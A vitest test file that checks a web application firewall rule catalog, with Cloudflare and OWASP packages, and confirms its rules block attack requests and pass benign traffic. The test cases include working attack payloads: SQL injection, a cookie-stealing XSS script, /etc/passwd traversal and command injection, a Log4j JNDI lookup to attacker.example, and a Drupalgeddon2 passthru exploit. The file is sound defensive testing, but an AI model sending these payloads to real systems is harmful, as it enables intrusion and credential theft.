// The previous product's rule catalog (resources/previous-waf/catalog.json): shape, ids, groups of
// docs/vendor-behaviour.md#package-ids, kinds, modes and scores, every expression compiling with
// the Rules-language module, and what the rules do with their default modes on a few requests and
// on the traffic corpus (tests/fixtures/traffic/): the Cloudflare package blocks or challenges the
// attacks and none of the benign requests; the OWASP package's anomaly score reaches the high
// sensitivity's threshold on most SQL injection and XSS and stays far below it on benign traffic.
import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import {
  compile,
  PHASE_MANAGED,
  requestContext,
  type CompiledExpression,
  type RequestDescription,
} from '@shared/expression'
import {
  OWASP_PACKAGE_BLOCK_RULE_ID,
  OWASP_PACKAGE_THRESHOLDS,
  WAF_PACKAGE_IDS,
} from '@shared/api/waf'

const FILE = resolve(import.meta.dirname, '../../../resources/previous-waf/catalog.json')
const TRAFFIC = resolve(import.meta.dirname, '../../fixtures/traffic')
const CF = WAF_PACKAGE_IDS.cloudflare
const OWASP = WAF_PACKAGE_IDS.owasp
const HEX32 = /^[0-9a-f]{32}$/

interface Group {
  id: string
  package_id: string
  name: string
  description: string | null
  mode: string
}

interface Rule {
  id: string
  package_id: string
  group_id: string
  description: string
  priority: string
  kind: string
  default_mode: string
  score?: number
  expression: string
}

interface Catalog {
  version: string
  packages: { id: string; name: string; description: string; detection_mode: string }[]
  groups: Group[]
  rules: Rule[]
}

const catalog = JSON.parse(readFileSync(FILE, 'utf8')) as Catalog
const groupById = new Map(catalog.groups.map((g) => [g.id, g]))
const rulesOf = (pkg: string) => catalog.rules.filter((r) => r.package_id === pkg)

/** The group ids the vendor publishes (docs/vendor-behaviour.md#package-ids). */
const REFERENCE_GROUPS: [string, string, string][] = [
  [OWASP, '07d700cf30fda7548be94ff01087d0c4', 'OWASP Bad Robots'],
  [OWASP, '6293bbf04711b8511fc68dfd85d254b3', 'OWASP Common Exceptions'],
  [OWASP, '5461c3844f6b5597986ae41d052a7cbd', 'OWASP Generic Attacks'],
  [OWASP, '9ab3180a92fde4bfb370a6e0a33842d2', 'OWASP HTTP Policy'],
  [OWASP, '89f0f131c955630147a5e8b6b13f5ca8', 'OWASP Protocol Anomalies'],
  [OWASP, 'bcdccfe389a27a990711d45d4bc67e24', 'OWASP Protocol Violations'],
  [OWASP, 'eac6910f74e3b80153bb52ac2fb82cc8', 'OWASP Request Limits'],
  [OWASP, '9643591b65fc5d12056969519de4cb7b', 'OWASP Slr Et Lfi Attacks'],
  [OWASP, '6035463b92082256c0c4cf5ce5028a98', 'OWASP Slr Et RFI Attacks'],
  [OWASP, '40545574c88d71badb13d54240652ad6', 'OWASP Slr Et SQLi Attacks'],
  [OWASP, 'c013ec3948431586f65b3d2a1a15c037', 'OWASP Slr Et XSS Attacks'],
  [OWASP, 'a0608e0c654339c108ca9715a7b1fb2c', 'OWASP SQL Injection Attacks'],
  [OWASP, '3d8fb0c18b5a6ba7682c80e94c7937b2', 'OWASP Tight Security'],
  [OWASP, '5664cc2f83dd55b71929c062921078aa', 'OWASP Trojans'],
  [OWASP, 'a7b84f7c2c7fc5ef46ff02095e6daaec', 'OWASP Uri SQL Injection Attacks'],
  [OWASP, 'cfda825dfda411ea218cb70e6c88e82e', 'OWASP Uri XSS Attacks'],
  [OWASP, 'd508327aee37c147e03873f79288bb1d', 'OWASP XSS Attacks'],
  [CF, 'f90712123fb02287348dd34c0a282bb9', 'Cloudflare Specials'],
  [CF, 'da9d75b083345c63f48e6fde5f617a8b', 'Cloudflare Miscellaneous'],
  [CF, '8df6c9aaddcbdf0eceb047bc50873697', 'Cloudflare Drupal'],
]

/** Groups the reference names without an id: the catalog gives them ids of its own. */
const OWN_GROUPS: [string, string][] = [
  [CF, 'Cloudflare WordPress'],
  [CF, 'Cloudflare Joomla'],
  [CF, 'Cloudflare PHP'],
  [CF, 'Cloudflare Magento'],
  [CF, 'Cloudflare Plone'],
  [CF, 'Cloudflare WHMCS'],
  [OWASP, 'OWASP Slr Et Joomla Attacks'],
  [OWASP, 'OWASP Slr Et PhpBB Attacks'],
  [OWASP, 'OWASP Slr Et WordPress Attacks'],
]

// ---------------------------------------------------------------------------------------------
// Evaluation with the catalog's defaults (group modes and rules' default modes), as the engine
// runs the packages: the traditional package's rules in order, an allow rule ending the WAF, a
// block or challenge ending evaluation; the anomaly package summing the scores of its matches.

const compiled = new Map<string, CompiledExpression>()
function expressionOf(rule: Rule): CompiledExpression {
  let c = compiled.get(rule.id)
  if (!c) {
    c = compile(rule.expression, { phase: PHASE_MANAGED })
    compiled.set(rule.id, c)
  }
  return c
}

const active = (rule: Rule) =>
  groupById.get(rule.group_id)?.mode === 'on' && !['disable', 'off'].includes(rule.default_mode)

interface Verdict {
  /** every rule that matches, whatever its mode or its group's */
  matched: string[]
  /** the traditional package's terminating action, if any */
  cloudflare: 'block' | 'challenge' | 'allow' | undefined
  /** the anomaly score of the OWASP package's active rules (the package on its own) */
  score: number
}

function evaluate(request: RequestDescription): Verdict {
  const ctx = requestContext(request)
  const matched: string[] = []
  let cloudflare: Verdict['cloudflare']
  let score = 0
  for (const rule of catalog.rules) {
    if (!expressionOf(rule).evaluate(ctx)) continue
    matched.push(rule.id)
    if (!active(rule)) continue
    if (rule.package_id === OWASP) score += rule.score ?? 0
    else if (cloudflare === undefined && rule.kind === 'allow') cloudflare = 'allow'
    else if (cloudflare === undefined && ['block', 'challenge'].includes(rule.default_mode))
      cloudflare = rule.default_mode as 'block' | 'challenge'
  }
  return { matched, cloudflare, score }
}

const HIGH = OWASP_PACKAGE_THRESHOLDS.high.normal

const BROWSER = {
  'user-agent':
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'accept-language': 'en-US,en;q=0.9',
}
const FORM = { ...BROWSER, 'content-type': 'application/x-www-form-urlencoded' }

function get(url: string, headers: Record<string, string> = {}): RequestDescription {
  const host = new URL(url).host
  return { method: 'GET', url, headers: { host, ...BROWSER, ...headers } }
}

function post(url: string, body: string, headers: Record<string, string> = FORM) {
  const host = new URL(url).host
  return { method: 'POST', url, body, headers: { host, ...headers } } satisfies RequestDescription
}

function readTraffic(file: string): RequestDescription[] {
  return readFileSync(resolve(TRAFFIC, file), 'utf8')
    .split('\n')
    .filter((line) => line.trim() !== '')
    .map((line) => JSON.parse(line) as RequestDescription)
}

// ---------------------------------------------------------------------------------------------

describe('packages', () => {
  it('are the vendor two, with their well-known ids and detection modes', () => {
    expect(catalog.version).toBe('1')
    expect(catalog.packages).toHaveLength(2)
    expect(catalog.packages.find((p) => p.id === CF)).toMatchObject({
      name: 'CloudFlare',
      detection_mode: 'traditional',
    })
    expect(catalog.packages.find((p) => p.id === OWASP)).toMatchObject({
      name: 'OWASP ModSecurity Core Rule Set',
      description: 'Covers OWASP Top 10 vulnerabilities, and more.',
      detection_mode: 'anomaly',
    })
    for (const p of catalog.packages) expect(p.description.length).toBeGreaterThan(0)
  })
})

describe('groups', () => {
  it('have unique 32-hex ids, a known package, a unique name and an on/off mode', () => {
    const ids = catalog.groups.map((g) => g.id)
    expect(new Set(ids).size).toBe(ids.length)
    for (const g of catalog.groups) {
      expect(g.id, g.name).toMatch(HEX32)
      expect([CF, OWASP], g.name).toContain(g.package_id)
      expect(['on', 'off'], g.name).toContain(g.mode)
      expect(g.description === null || typeof g.description === 'string', g.name).toBe(true)
    }
    for (const pkg of [CF, OWASP]) {
      const names = catalog.groups.filter((g) => g.package_id === pkg).map((g) => g.name)
      expect(new Set(names).size).toBe(names.length)
    }
  })

  it('include the reference groups with their ids and names', () => {
    for (const [pkg, id, name] of REFERENCE_GROUPS) {
      expect(groupById.get(id), name).toMatchObject({ package_id: pkg, name })
    }
  })

  it('give the groups the reference names without an id ids of their own', () => {
    const referenceIds = new Set(REFERENCE_GROUPS.map(([, id]) => id))
    for (const [pkg, name] of OWN_GROUPS) {
      const group = catalog.groups.find((g) => g.name === name)
      expect(group, name).toBeDefined()
      expect(group!.package_id, name).toBe(pkg)
      expect(referenceIds.has(group!.id), name).toBe(false)
    }
    expect(catalog.groups).toHaveLength(REFERENCE_GROUPS.length + OWN_GROUPS.length)
  })

  it('are mostly on; OWASP Tight Security ships off', () => {
    const off = catalog.groups.filter((g) => g.mode === 'off')
    expect(off.length).toBeGreaterThan(0)
    expect(off.length).toBeLessThanOrEqual(4)
    expect(groupById.get('3d8fb0c18b5a6ba7682c80e94c7937b2')!.mode).toBe('off')
  })

  it('each hold at least one rule of their own package', () => {
    for (const g of catalog.groups) {
      expect(
        catalog.rules.some((r) => r.group_id === g.id),
        g.name,
      ).toBe(true)
    }
  })
})

describe('rules', () => {
  it('have unique short ids in the vendor style, and 981176 is not one of them', () => {
    const ids = catalog.rules.map((r) => r.id)
    expect(new Set(ids).size).toBe(ids.length)
    for (const id of ids) expect(id).toMatch(/^[A-Z]{0,3}\d{4,6}[A-Z]?$/)
    expect(ids).not.toContain(OWASP_PACKAGE_BLOCK_RULE_ID)
    expect(ids).not.toContain('981176')
    for (const r of rulesOf(OWASP)) expect(Number(r.id), r.id).toBeGreaterThanOrEqual(950000)
    for (const r of rulesOf(OWASP)) expect(Number(r.id), r.id).toBeLessThan(991000)
  })

  it('belong to a group of their own package', () => {
    for (const r of catalog.rules) {
      expect(groupById.get(r.group_id)?.package_id, r.id).toBe(r.package_id)
    }
  })

  it('have a description and increasing numeric priorities in catalog order', () => {
    for (const pkg of [CF, OWASP]) {
      const priorities = rulesOf(pkg).map((r) => Number(r.priority))
      for (const [i, p] of priorities.entries()) {
        expect(Number.isInteger(p) && p > 0).toBe(true)
        if (i > 0) expect(p).toBeGreaterThan(priorities[i - 1]!)
      }
    }
    for (const r of catalog.rules) {
      expect(r.description.length, r.id).toBeGreaterThan(0)
      expect(r.priority, r.id).toMatch(/^[1-9]\d*$/)
    }
  })

  it('are deny or allow rules in the Cloudflare package, with valid default modes', () => {
    const rules = rulesOf(CF)
    expect(rules.length).toBeGreaterThanOrEqual(60)
    expect(rules.length).toBeLessThanOrEqual(120)
    for (const r of rules) {
      expect(r.score, r.id).toBeUndefined()
      if (r.kind === 'deny') {
        expect(['disable', 'simulate', 'block', 'challenge'], r.id).toContain(r.default_mode)
      } else {
        expect(r.kind, r.id).toBe('allow')
        expect(['on', 'off'], r.id).toContain(r.default_mode)
      }
    }
    const modes = new Set(rules.filter((r) => r.kind === 'deny').map((r) => r.default_mode))
    expect([...modes].sort()).toEqual(['block', 'challenge', 'disable', 'simulate'])
    const deny = rules.filter((r) => r.kind === 'deny')
    expect(deny.filter((r) => r.default_mode === 'block').length).toBeGreaterThan(deny.length / 2)
    const allow = rules.filter((r) => r.kind === 'allow')
    expect(allow.length).toBeGreaterThan(0)
    for (const r of allow) expect(r.default_mode, r.id).toBe('off')
    // an allow rule lets a request past the rules after it: they all come first
    expect(rules.slice(0, allow.length).every((r) => r.kind === 'allow')).toBe(true)
  })

  it('are anomaly rules in the OWASP package, scored 2 to 5', () => {
    const rules = rulesOf(OWASP)
    expect(rules.length).toBeGreaterThanOrEqual(80)
    expect(rules.length).toBeLessThanOrEqual(150)
    for (const r of rules) {
      expect(r.kind, r.id).toBe('anomaly')
      expect(['on', 'off'], r.id).toContain(r.default_mode)
      expect([2, 3, 4, 5], r.id).toContain(r.score)
    }
    const scores = new Set(rules.map((r) => r.score))
    expect([...scores].sort()).toEqual([2, 3, 4, 5])
  })

  it('compile with the Rules-language module in the managed phase', () => {
    for (const r of catalog.rules) {
      expect(r.expression.length, r.id).toBeLessThanOrEqual(4096)
      expect(
        () => compile(r.expression, { phase: PHASE_MANAGED }),
        `${r.id}: ${r.expression}`,
      ).not.toThrow()
    }
  })
})

describe('behaviour with the default modes', () => {
  it.each([
    [
      'UNION SELECT in the query',
      get(
        "https://shop.example.com/item?id=1'%20UNION%20SELECT%20login,%20password%20FROM%20users--",
      ),
      ['100010', '981276', '981402'],
    ],
    [
      'tautology in a form',
      post('https://www.example.com/comment', "author=x&text=1'+OR+'1'%3D'1"),
      ['100008', '981242', '962206'],
    ],
    [
      'script tag in the query',
      get('https://www.example.com/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E'),
      ['100020', '973336', '973400'],
    ],
    [
      'traversal to /etc/passwd',
      get('https://www.example.com/download.php?file=../../../../etc/passwd'),
      ['100005A', '100006', '962010'],
    ],
    [
      'command injection in a form',
      post('https://www.example.com/tools/ping', 'host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd'),
      ['100040', '950907', '950915'],
    ],
  ])(
    '%s: matched by the expected rules, blocked, and over the high threshold',
    (_, request, ids) => {
      const verdict = evaluate(request)
      for (const id of ids) expect(verdict.matched, id).toContain(id)
      expect(verdict.cloudflare).toBe('block')
      expect(verdict.score).toBeGreaterThanOrEqual(HIGH)
    },
  )

  it.each([
    [
      'Log4j lookup in the User-Agent',
      get('https://www.example.com/', { 'user-agent': '${jndi:ldap://attacker.example/a}' }),
      '100514',
      'block',
    ],
    [
      'HTTPoxy',
      get('https://www.example.com/', { proxy: 'http://203.0.113.9:3128' }),
      '100068',
      'block',
    ],
    [
      'sqlmap',
      get('https://www.example.com/', { 'user-agent': 'sqlmap/1.8 (https://sqlmap.org)' }),
      '100100',
      'challenge',
    ],
    [
      'WordPress Duplicator download',
      get(
        'https://blog.example.org/wp-admin/admin-ajax.php?action=duplicator_download&file=..%2F..%2Fwp-config.php',
      ),
      'WP0001',
      'block',
    ],
    [
      'Drupalgeddon2',
      post(
        'https://www.example.com/user/register?element_parents=account/mail/%23value&ajax_form=1',
        'form_id=user_register_form&mail%5B%23post_render%5D%5B%5D=passthru&mail%5B%23markup%5D=id',
      ),
      'D0001',
      'block',
    ],
  ])('%s: the Cloudflare package matches the expected rule', (_, request, id, action) => {
    const verdict = evaluate(request)
    expect(verdict.matched).toContain(id)
    expect(verdict.cloudflare).toBe(action)
  })

  it.each([
    ['a page view', get('https://www.example.com/')],
    ['a search with a quote', get('https://www.example.com/search?q=O%27Reilly+books')],
    [
      'a catalog page with a session cookie',
      get('https://shop.example.com/catalog/shoes?size=42&color=blue&sort=price', {
        cookie: 'session=eyJ1aWQiOjQyfQ.abc; theme=dark',
      }),
    ],
    [
      'a JSON order',
      post(
        'https://api.example.net/v1/orders',
        '{"items":[{"sku":"SHOE-42","qty":1}],"note":"Leave it at the door"}',
        { ...BROWSER, accept: 'application/json', 'content-type': 'application/json' },
      ),
    ],
  ])('%s: matched by no rule', (_, request) => {
    expect(evaluate(request).matched).toEqual([])
  })

  it.each([
    ['SQL words in a search', get('https://www.example.com/search?q=select+a+size+from+the+chart')],
    [
      'SQL words and a quote in a message',
      post(
        'https://www.example.com/contact',
        "name=Sam&message=SELECT+isn't+working+in+my+form%2C+any+idea+why%3F+I+select+the+option.",
      ),
    ],
    [
      'a WordPress login',
      post(
        'https://blog.example.org/wp-login.php',
        'log=alice&pwd=Sunflower!2026&wp-submit=Log+In&redirect_to=https%3A%2F%2Fblog.example.org%2Fwp-admin%2F&testcookie=1',
      ),
    ],
  ])('%s: passes the Cloudflare package and stays under the high threshold', (_, request) => {
    const verdict = evaluate(request)
    expect(verdict.cloudflare).toBeUndefined()
    expect(verdict.score).toBeLessThan(HIGH)
  })
})

describe('the traffic corpus', () => {
  let attacks: Verdict[]
  let benign: Verdict[]
  beforeAll(() => {
    attacks = readTraffic('attacks.ndjson').map(evaluate)
    benign = readTraffic('benign.ndjson').map(evaluate)
  })

  it('the Cloudflare package blocks or challenges at least 90% of the attacks, and no benign request', () => {
    const caught = attacks.filter((v) => v.cloudflare === 'block' || v.cloudflare === 'challenge')
    expect(caught.length / attacks.length).toBeGreaterThanOrEqual(0.9)
    expect(benign.filter((v) => v.cloudflare !== undefined)).toEqual([])
  })

  it('the OWASP package reaches the high threshold on at least 45% of the attacks and on no benign request', () => {
    expect(attacks.filter((v) => v.score >= HIGH).length / attacks.length).toBeGreaterThanOrEqual(
      0.45,
    )
    expect(Math.max(...benign.map((v) => v.score))).toBeLessThan(HIGH)
  })

  it('detects no more as the sensitivity falls', () => {
    const detected = (['high', 'medium', 'low'] as const).map(
      (s) => attacks.filter((v) => v.score >= OWASP_PACKAGE_THRESHOLDS[s].normal).length,
    )
    expect(detected[0]).toBeGreaterThanOrEqual(detected[1]!)
    expect(detected[1]).toBeGreaterThanOrEqual(detected[2]!)
  })
})
